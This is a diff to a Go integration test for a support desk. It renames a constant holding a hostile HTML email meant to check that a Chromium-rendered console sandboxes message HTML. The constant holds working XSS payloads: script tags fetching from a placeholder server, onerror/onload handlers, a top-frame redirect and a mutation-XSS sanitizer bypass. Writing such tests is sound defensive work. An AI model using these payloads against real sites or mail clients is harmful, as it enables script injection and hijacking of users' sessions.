@@ -13,9 +13,9 @@ import (
 	"github.com/chromedp/chromedp"
 )
 
-// hostile is a letter that wants to run, load, lead away and cover; $ is a server that
+// hostileHTML is a letter that wants to run, load, lead away and cover; $ is a server that
 // counts who comes.
-const hostile = `<p>Delete my personal data.</p><table border="1"><tr><td>one</td><td style="color:#a00">two</td></tr></table>
+const hostileHTML = `<p>Delete my personal data.</p><table border="1"><tr><td>one</td><td style="color:#a00">two</td></tr></table>
 <script>top.document.title="pwned"; fetch("$/script")</script><script src="$/script.js"></script>
 <img src="$/img" onerror='top.document.title="pwned"'><img src=x onerror='top.location="$/top"'><svg onload='top.document.title="pwned"'><image href="$/svg"/></svg>
 <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=$/mutated onerror=top.document.title='pwned'&gt;"></table></mtext></math>
@@ -44,7 +44,7 @@ const settled = `new Promise(done => { const f = document.querySelector("iframe"
 func TestIntegrationConsoleFramesHTML(t *testing.T) {
 	d := newDesk(t)
 	evil, came := stranger(t)
-	letter := strings.ReplaceAll(hostile, "$", evil)
+	letter := strings.ReplaceAll(hostileHTML, "$", evil)
 	m := incoming{from: aigul.email, name: aigul.name, subject: "Erase my data", body: letter, html: true}
 	n := d.asks(m)
 	b := startChromium(t).tab()
